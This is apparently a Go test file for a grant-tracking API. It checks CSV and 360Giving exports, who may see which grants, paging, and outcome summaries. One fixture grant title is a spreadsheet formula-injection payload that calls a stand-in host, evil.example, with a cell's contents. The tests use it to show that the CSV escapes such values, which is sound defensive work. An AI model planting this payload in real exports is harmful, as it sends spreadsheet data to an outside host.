package httpapi_test

// Tests of the exports (issue #5) through HTTP, run by the package's harness
// (api_harness_test.go) over a fresh DynamoDB Local table whose client
// counts the DynamoDB requests it makes, with a 360Giving prefix configured
// as FUNDTRACK_360_PREFIX would configure it. Names start with "ex".

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fundtrack/fundtrack/shared/export"
	"github.com/fundtrack/fundtrack/shared/export/givingtest"
	"github.com/fundtrack/fundtrack/shared/platform"
	"github.com/fundtrack/fundtrack/shared/testkit"
)

// exPrefix is the configured 360Giving prefix.
const exPrefix = "ftk-test"

// exGiving is the deployment's 360Giving settings, as FUNDTRACK_360_*
// would set them: no data source, so each package names its own address.
var exGiving = export.GivingConfig{Prefix: exPrefix, PublisherName: "East Midlands Open Data",
	PublisherID: "GB-COH-09506232", License: "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"}

// exAPI is the API with the deployment's 360Giving settings.
type exAPI struct {
	*apiH
}

// exNew starts it over memory: what each export holds, for whom and in
// which shape is the service's and the exporters' to decide, the same
// over either storage (TestEveryRouteOverDynamoDB downloads each export
// over DynamoDB Local).
func exNew(t *testing.T) *exAPI {
	t.Helper()
	m := testkit.NewMem(t)
	return &exAPI{apiH: &apiH{API: testkit.NewMemAPI(t, m.Store, testkit.APIConfig{Config: platform.Config{Giving: exGiving}}), mem: m}}
}

// exNewOverDynamoDB starts it over a fresh table pair, counting the
// DynamoDB requests it makes (the stack's Count).
func exNewOverDynamoDB(t *testing.T) *exAPI {
	t.Helper()
	return &exAPI{apiH: startAPI(t, testkit.New(t), nil, testkit.APIConfig{Config: platform.Config{Giving: exGiving}})}
}

// exWorld is the fixture, made as admin:
//
//	P "Working for Wellness" (led by LPT, GB-NHS-RT5, in the East Midlands):
//	  funders X (the DWP, GB-GOR-D10), Y (no org-id) and N (no grants);
//	  projects A (Bradford District Care, GB-NHS-TAD, in Bradford) and B
//	  (Aspiro, nothing known); grants X→A (a title trying formula
//	  injection), Y→B, X→P (the whole programme);
//	  members lead, pl-a (A), pl-b (B), funder-x (X), funder-y (Y), funder-n (N).
//	Q: funder Z, project C, grant Z→C; member lead2@ (lead).
type exWorld struct {
	P, X, Y, N, A, B string
	GXA, GYB, GXP    string
	Q, GZC           string
}

const exInjection = `=HYPERLINK("http://evil.example/?"&A1,"£ details")`

func exSetup(t *testing.T, a *exAPI) *exWorld {
	t.Helper()
	w := &exWorld{}
	prog := func(name, lead string) map[string]any {
		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2027-12-31"}
	}
	project := func(name, lead string) map[string]any {
		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2026-12-31"}
	}
	with := func(m map[string]any, orgID, postcode, geoCode, area string) map[string]any {
		m["orgId"], m["postcode"] = orgID, postcode
		m["beneficiaryLocations"] = []map[string]any{{"geoCode": geoCode, "name": area}}
		return m
	}
	grant := func(title, description, funder, project string, pence int64, award, start, end string) map[string]any {
		g := map[string]any{"funderId": funder, "title": title, "description": description, "amountPence": pence,
			"currency": "GBP", "awardDate": award, "startDate": start, "endDate": end}
		if project != "" {
			g["projectId"] = project
		}
		return g
	}
	pp := func(rest string) string { return "/programmes/" + w.P + rest }
	w.P, _ = a.Create(t, uAdmin, "/programmes", with(prog("Working for Wellness", "Leicestershire Partnership NHS Trust"),
		"GB-NHS-RT5", "le3 8ra", "E12000004", "East Midlands"))
	w.X, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-D10", "contacts": []string{"grants@x.example.org"}})
	w.Y, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
	w.N, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
	w.A, _ = a.Create(t, uAdmin, pp("/projects"), with(project("IPS Bradford", "Bradford District Care NHS FT"),
		"GB-NHS-TAD", "BD18 3LA", "E08000032", "Bradford"))
	w.B, _ = a.Create(t, uAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
	w.GXA, _ = a.Create(t, uAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
	w.GYB, _ = a.Create(t, uAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
	w.GXP, _ = a.Create(t, uAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
	a.PutMember(t, w.P, uLead, testkit.RoleLead())
	a.PutMember(t, w.P, uPLA, testkit.RoleProjectLead(w.A))
	a.PutMember(t, w.P, uPLB, testkit.RoleProjectLead(w.B))
	a.PutMember(t, w.P, uFunderX, testkit.RoleFunder(w.X))
	a.PutMember(t, w.P, uFunderY, testkit.RoleFunder(w.Y))
	a.PutMember(t, w.P, uFunderN, testkit.RoleFunder(w.N))

	w.Q, _ = a.Create(t, uAdmin, "/programmes", prog("Another network", "Another Trust"))
	z, _ := a.Create(t, uAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
	c, _ := a.Create(t, uAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
	w.GZC, _ = a.Create(t, uAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
	a.PutMember(t, w.Q, uLead2, testkit.RoleLead())
	return w
}

func (w *exWorld) pp(rest string) string { return "/programmes/" + w.P + rest }

const exGrantsHeader = "Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"

// exCSV checks a CSV download's headers and returns its rows (header first).
func exCSV(t *testing.T, r testkit.Resp, filename string) [][]string {
	t.Helper()
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="`+filename+`"` {
		t.Errorf("Content-Disposition %q, want attachment; filename=%q", cd, filename)
	}
	if !bytes.HasPrefix(r.Body, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", r.Body[:min(len(r.Body), 20)])
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Body[3:])).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, r.Body)
	}
	return rows
}

func exColumn(rows [][]string, col int) []string {
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[col])
	}
	return out
}

func TestExportGrantsCSV(t *testing.T) {
	a := exNew(t)
	w := exSetup(t, a)

	t.Run("exact content for a lead", func(t *testing.T) {
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil))
		exCSV(t, r, "working-for-wellness-grants.csv")
		want := "\ufeff" + exGrantsHeader +
			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-D10,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
			w.GYB + `,Internship places,"Local Trust, Bradford",,Aspiro internships,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
			w.GXP + `,Network co-ordination,Department for Work and Pensions,GB-GOR-D10,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31` + "\r\n"
		if string(r.Body) != want {
			t.Fatalf("grants CSV:\n got %q\nwant %q", r.Body, want)
		}
		if cc := r.Header.Get("Cache-Control"); cc != "no-store" {
			t.Errorf("Cache-Control %q, want no-store", cc)
		}
	})

	t.Run("formula injection is escaped", func(t *testing.T) {
		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil)), "working-for-wellness-grants.csv")
		if got := rows[1][1]; got != "'"+exInjection {
			t.Fatalf("title cell %q, want the formula behind an apostrophe", got)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %d %q of %q could run as a formula", i, cell, row)
				}
			}
		}
	})

	t.Run("roles", func(t *testing.T) {
		for _, tc := range []struct {
			as   string
			want []string
		}{
			{uAdmin, []string{w.GXA, w.GYB, w.GXP}},
			{uLead, []string{w.GXA, w.GYB, w.GXP}},
			{uFunderX, []string{w.GXA, w.GXP}},
			{uFunderY, []string{w.GYB}},
			{uPLA, []string{w.GXA}},
			{uPLB, []string{w.GYB}},
			{uFunderN, nil},
		} {
			rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), tc.as, nil)), "working-for-wellness-grants.csv")
			if got := exColumn(rows, 0); !slices.Equal(got, tc.want) {
				t.Errorf("%s sees grants %v, want %v", tc.as, got, tc.want)
			}
			if strings.Join(rows[0], ",")+"\r\n" != exGrantsHeader {
				t.Errorf("%s: header %q", tc.as, rows[0])
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), "", nil))
		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
		r, _ = a.Send(testkit.Request("GET", "/programmes/not-an-id/grants.csv", uAdmin, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
	})
}

// ------------------------------------------------------------ 360Giving

func exValidateGiving(t *testing.T, raw []byte) error {
	t.Helper()
	return givingtest.Validate(t, raw)
}

type exOrg struct {
	ID         string `json:"id"`
	Name       string `json:"name"`
	PostalCode string `json:"postalCode,omitempty"`
}

type exGrant struct {
	ID            string  `json:"id"`
	Title         string  `json:"title"`
	Description   string  `json:"description"`
	Currency      string  `json:"currency"`
	AmountAwarded float64 `json:"amountAwarded"`
	AwardDate     string  `json:"awardDate"`
	PlannedDates  []struct {
		StartDate string `json:"startDate"`
		EndDate   string `json:"endDate"`
	} `json:"plannedDates"`
	RecipientOrganization []exOrg `json:"recipientOrganization"`
	FundingOrganization   []exOrg `json:"fundingOrganization"`
	DateModified          string  `json:"dateModified"`
	DataSource            string  `json:"dataSource"`
	BeneficiaryLocation   []struct {
		GeoCode string `json:"geoCode"`
		Name    string `json:"name"`
	} `json:"beneficiaryLocation"`
}

type exPackage struct {
	Grants    []exGrant `json:"grants"`
	Version   string    `json:"version"`
	License   string    `json:"license"`
	Publisher struct {
		Name       string `json:"name"`
		Identifier string `json:"identifier"`
	} `json:"publisher"`
}

func exGivingIDs(p exPackage) []string {
	var out []string
	for _, g := range p.Grants {
		out = append(out, g.ID)
	}
	return out
}

func TestExportGrants360Giving(t *testing.T) {
	a := exNew(t)
	w := exSetup(t, a)
	gid := func(id string) string { return "360G-" + exPrefix + "-" + id }

	get := func(t *testing.T, as string) exPackage {
		t.Helper()
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Fatalf("Content-Type %q", ct)
		}
		if err := exValidateGiving(t, r.Body); err != nil {
			t.Fatalf("the package %s got fails the 360Giving schema: %v\n%s", as, err, r.Body)
		}
		var p exPackage
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatal(err)
		}
		return p
	}

	t.Run("valid and complete for a lead", func(t *testing.T) {
		p := get(t, uLead)
		if p.Version != "1.4" || p.Publisher.Name != "East Midlands Open Data" || p.Publisher.Identifier != "GB-COH-09506232" ||
			p.License != exGiving.License {
			t.Errorf("package metadata: version %q publisher %+v licence %q, want the configured ones", p.Version, p.Publisher, p.License)
		}
		if got, want := exGivingIDs(p), []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}; !slices.Equal(got, want) {
			t.Fatalf("grants %v, want %v", got, want)
		}
		xa, yb, xp := p.Grants[0], p.Grants[1], p.Grants[2]
		// Titles are data here, not spreadsheet cells: no apostrophe.
		if xa.Title != exInjection || xa.Description != "Two IPS employment specialists" || xa.Currency != "GBP" ||
			xa.AmountAwarded != 310000 || xa.AwardDate != "2025-01-15" ||
			len(xa.PlannedDates) != 1 || xa.PlannedDates[0].StartDate != "2025-02-01" || xa.PlannedDates[0].EndDate != "2026-01-31" {
			t.Errorf("grant X→A: %+v", xa)
		}
		if want := []exOrg{{"GB-GOR-D10", "Department for Work and Pensions", ""}}; !slices.Equal(xa.FundingOrganization, want) {
			t.Errorf("X→A funder %+v, want %+v (its org-id)", xa.FundingOrganization, want)
		}
		if want := []exOrg{{"GB-NHS-TAD", "Bradford District Care NHS FT", "BD18 3LA"}}; !slices.Equal(xa.RecipientOrganization, want) {
			t.Errorf("X→A recipient %+v, want the project's lead %+v", xa.RecipientOrganization, want)
		}
		if len(xa.BeneficiaryLocation) != 1 || xa.BeneficiaryLocation[0].GeoCode != "E08000032" {
			t.Errorf("X→A beneficiaries %+v, want Bradford", xa.BeneficiaryLocation)
		}
		// Y→B: no description, and Aspiro has no org-id: it is still
		// Aspiro's grant, under an identifier fundtrack coins, never the
		// programme lead's identifier and postcode.
		if yb.AmountAwarded != 12345.05 || yb.Description != "Grant from Local Trust, Bradford to Aspiro CIC for Aspiro internships, part of the programme Working for Wellness." {
			t.Errorf("grant Y→B: amount %v description %q", yb.AmountAwarded, yb.Description)
		}
		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.Y, "Local Trust, Bradford", ""}}; !slices.Equal(yb.FundingOrganization, want) {
			t.Errorf("Y→B funder %+v, want %+v (no org-id: a fundtrack one)", yb.FundingOrganization, want)
		}
		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.B, "Aspiro CIC", ""}}; !slices.Equal(yb.RecipientOrganization, want) {
			t.Errorf("recipient of Y→B %+v, want the project's lead organisation %+v", yb.RecipientOrganization, want)
		}
		lpt := []exOrg{{"GB-NHS-RT5", "Leicestershire Partnership NHS Trust", "LE3 8RA"}}
		if !slices.Equal(xp.RecipientOrganization, lpt) {
			t.Errorf("recipient of X→P %+v, want the programme's lead %+v", xp.RecipientOrganization, lpt)
		}
		if _, err := time.Parse(time.RFC3339, xa.DateModified); err != nil {
			t.Errorf("dateModified %q: %v", xa.DateModified, err)
		}
		// No data source is configured: each grant names the package's address.
		if !strings.HasPrefix(xa.DataSource, "http") || !strings.HasSuffix(xa.DataSource, w.pp("/grants/360giving")) {
			t.Errorf("dataSource %q, want the address the package came from", xa.DataSource)
		}
	})

	t.Run("a funder's package without funderId is not the programme's", func(t *testing.T) {
		doc := func(as string) map[string]any {
			r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
			var d map[string]any
			json.Unmarshal(r.Body, &d)
			return d
		}
		lead, funder := doc(uLead), doc(uFunderX)
		if lead["identifier"] == funder["identifier"] || lead["title"] == funder["title"] {
			t.Errorf("the funder's selection shares the whole programme's identifier %v or title %v", lead["identifier"], lead["title"])
		}
		if id, _ := funder["identifier"].(string); id != lead["identifier"].(string)+"-selection-funders-"+w.X ||
			!strings.HasSuffix(funder["title"].(string), ": selected grants") {
			t.Errorf("the funder's selection: identifier %v title %v", funder["identifier"], funder["title"])
		}
		// Its own grants, published by it as with funderId, and saved
		// under a name of its own, not the programme's package's.
		if p, _ := funder["publisher"].(map[string]any); p["name"] != "Department for Work and Pensions" || p["identifier"] != "GB-GOR-D10" {
			t.Errorf("the funder's selection is published by %v, want the DWP", funder["publisher"])
		}
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), uFunderX, nil))
		if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, `"working-for-wellness-department-for-work-and-pensions-selected-grants-360giving.json"`) {
			t.Errorf("the funder's selection is saved as %q", cd)
		}
		if err := exValidateGiving(t, r.Body); err != nil {
			t.Errorf("the funder's selection: %v", err)
		}
	})

	t.Run("one funder's package, published by it", func(t *testing.T) {
		for _, as := range []string{uLead, uFunderX} {
			r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.X), as, nil))
			if err := exValidateGiving(t, r.Body); err != nil {
				t.Fatalf("%s: %v", as, err)
			}
			var p exPackage
			json.Unmarshal(r.Body, &p)
			if got := exGivingIDs(p); !slices.Equal(got, []string{gid(w.GXA), gid(w.GXP)}) {
				t.Errorf("%s: the DWP's package holds %v", as, got)
			}
			if p.Publisher.Name != "Department for Work and Pensions" || p.Publisher.Identifier != "GB-GOR-D10" {
				t.Errorf("%s: publisher %+v, want the DWP", as, p.Publisher)
			}
			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "working-for-wellness-department-for-work-and-pensions-grants-360giving.json") {
				t.Errorf("Content-Disposition %q", cd)
			}
			// Published as it is, it raises none of the Data Quality Tool's
			// notices fundtrack's data could avoid.
			var doc map[string]any
			json.Unmarshal(r.Body, &doc)
			ns := givingtest.QualityNotices(doc, time.Now())
			for _, n := range givingtest.Avoidable(ns) {
				t.Errorf("%s: the Data Quality Tool would report %s", as, n)
			}
			if len(ns) != 2 { // the two NHS trusts have no company or charity number
				t.Errorf("%s: notices %v, want the two inherent ones", as, ns)
			}
		}
		// A funder reads only its own grants, so another funder's package has
		// nothing it may publish; an unknown funder is not found either.
		r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.Y), uFunderX, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		if !strings.Contains(string(r.Body), "nothing to publish yet") {
			t.Errorf("another funder's package: %s", r.Body)
		}
		r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.N), uLead, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		if !strings.Contains(string(r.Body), "no grants from Newcomer Fund") {
			t.Errorf("a funder with no grants: %s", r.Body)
		}
		r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId=01jnotafunder0000000000000"), uLead, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		if !strings.Contains(string(r.Body), "funder not found") {
			t.Errorf("an unknown funder: %s", r.Body)
		}
		// An empty funderId is a slip, not a request for every grant: 400
		// naming it, for every member; a non-member still finds nothing.
		for _, q := range []string{"?funderId=", "?funderId=%20"} {
			for _, as := range []string{uLead, uFunderX} {
				r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving"+q), as, nil))
				if e := testkit.WantErr(t, r, http.StatusBadRequest, "validation_failed"); !strings.Contains(e.Fields["funderId"], "must not be empty") {
					t.Errorf("%s, %s: %s", q, as, r.Body)
				}
			}
			r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving"+q), uOutsider, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
	})

	t.Run("roles", func(t *testing.T) {
		for _, tc := range []struct {
			as   string
			want []string
		}{
			{uAdmin, []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}},
			{uFunderX, []string{gid(w.GXA), gid(w.GXP)}},
			{uFunderY, []string{gid(w.GYB)}},
			{uPLA, []string{gid(w.GXA)}},
			{uPLB, []string{gid(w.GYB)}},
		} {
			if got := exGivingIDs(get(t, tc.as)); !slices.Equal(got, tc.want) {
				t.Errorf("%s sees %v, want %v", tc.as, got, tc.want)
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		// A member who may read no grant: 360Giving needs at least one.
		r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), uFunderN, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		if !strings.Contains(string(r.Body), "nothing to publish yet") {
			t.Errorf("no grants to read: %s", r.Body)
		}
	})

	t.Run("a grant id is not shadowed", func(t *testing.T) {
		// The literal route sits beside GET …/grants/{grantId}; grants still read.
		a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/"+w.GXA), uLead, nil))
	})

	t.Run("the schema check bites", func(t *testing.T) {
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), uLead, nil))
		var p map[string]any
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatal(err)
		}
		g := p["grants"].([]any)[0].(map[string]any)
		g["amountAwarded"] = "£310,000.00"
		delete(g, "fundingOrganization")
		raw, _ := json.Marshal(p)
		if err := exValidateGiving(t, raw); err == nil {
			t.Fatalf("a broken package passed the schema check:\n%s", raw)
		}
	})
}

// TestExportPagesThroughEveryGrant: both grant exports hold every grant
// however many pages the list takes (a page is at most 100), for a lead
// (the programme's grants) and a funder (the funder index).
func TestExportPagesThroughEveryGrant(t *testing.T) {
	a := exNew(t)
	p, _ := a.Create(t, uAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
		"startDate": "2025-01-01", "endDate": "2027-12-31"})
	f, _ := a.Create(t, uAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
	a.PutMember(t, p, uLead, testkit.RoleLead())
	a.PutMember(t, p, uFunderX, testkit.RoleFunder(f))
	const n = 120
	ids := make([]string, n)
	var wg sync.WaitGroup
	sem := make(chan struct{}, 16)
	errs := make(chan error, n)
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			r, err := a.Send(testkit.Request("POST", "/programmes/"+p+"/grants", uAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"}))
			if err != nil || r.Status != http.StatusCreated {
				errs <- fmt.Errorf("grant %d: %v %s", i, err, r)
				return
			}
			var v struct{ ID string }
			json.Unmarshal(r.Body, &v)
			ids[i] = v.ID
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	slices.Sort(ids) // lists come oldest first: ids sort by creation time
	for _, as := range []string{uLead, uFunderX} {
		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants.csv", as, nil)), "big-programme-grants.csv")
		if got := exColumn(rows, 0); !slices.Equal(got, ids) {
			t.Errorf("%s: CSV has %d grants, want all %d in order", as, len(got), n)
		}
		r := a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants/360giving", as, nil))
		var pkg exPackage
		if err := json.Unmarshal(r.Body, &pkg); err != nil {
			t.Fatal(err)
		}
		if len(pkg.Grants) != n {
			t.Errorf("%s: 360Giving package has %d grants, want %d", as, len(pkg.Grants), n)
		}
		if err := exValidateGiving(t, r.Body); err != nil {
			t.Errorf("%s: %v", as, err)
		}
	}
}

// ------------------------------------------------------------ outcome summary

func TestExportOutcomeSummary(t *testing.T) {
	a := exNewOverDynamoDB(t)
	w := exSetup(t, a)
	outcome := func(t *testing.T, as, project string, counts map[string]int64) {
		t.Helper()
		a.Create(t, as, w.pp("/projects/"+project+"/outcomes"), testkit.OutcomeBody(counts))
	}
	summary := func(t *testing.T, as string) testkit.Resp {
		t.Helper()
		return a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
	}
	header := "\ufeffProject,Referrals,People into work,Job starts,Jobs sustained for 13 weeks,Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n"

	t.Run("before any submission", func(t *testing.T) {
		want := header + "IPS Bradford,0,0,0,0,0,0,0,0\r\nAspiro internships,0,0,0,0,0,0,0,0\r\nProgramme total,0,0,0,0,0,0,0,0\r\n"
		if got := string(summary(t, uLead).Body); got != want {
			t.Fatalf("summary:\n got %q\nwant %q", got, want)
		}
	})

	// A: referrals 12, into work 7, job starts 8, sustained 1.
	// B: referrals 13, into work 1, interns enrolled 4.
	outcome(t, uPLA, w.A, map[string]int64{"referrals": 10, "peopleIntoWork": 7, "jobStarts": 8})
	outcome(t, uPLA, w.A, map[string]int64{"referrals": 2, "sustainedJobs13Weeks": 1})
	outcome(t, uPLB, w.B, map[string]int64{"referrals": 13, "peopleIntoWork": 1, "internsEnrolled": 4})

	// Totals 25, 8, 8, 1, 0, 0, 4, 0: controlled from the true totals, so
	// people into work is 8 → 10 though both projects' figures are "*".
	want := header +
		"IPS Bradford,10,*,10,*,0,0,0,0\r\n" +
		"Aspiro internships,15,*,0,0,0,0,*,0\r\n" +
		"Programme total,25,10,10,*,0,0,*,0\r\n"

	t.Run("every member reads the same controlled figures", func(t *testing.T) {
		for _, as := range []string{uAdmin, uLead, uPLA, uPLB, uFunderX, uFunderY, uFunderN} {
			r := summary(t, as)
			exCSV(t, r, "working-for-wellness-outcomes-summary.csv")
			if string(r.Body) != want {
				t.Errorf("summary as %s:\n got %q\nwant %q", as, r.Body, want)
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), "", nil))
		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
	})

	t.Run("a fixed few requests however many submissions", func(t *testing.T) {
		count := func() int {
			return a.Count.Measure(func() { summary(t, uLead) }).Requests
		}
		before := count()
		for range 20 {
			outcome(t, uPLB, w.B, map[string]int64{"trainingStarts": 1})
		}
		after := count()
		if before != after || after > 4 || after == 0 {
			t.Fatalf("summary took %d DynamoDB requests, then %d after 20 more submissions; want the same few (≤ 4)", before, after)
		}
		if got := string(summary(t, uLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
			t.Fatalf("after 20 training starts:\n%s", got)
		}
	})
}
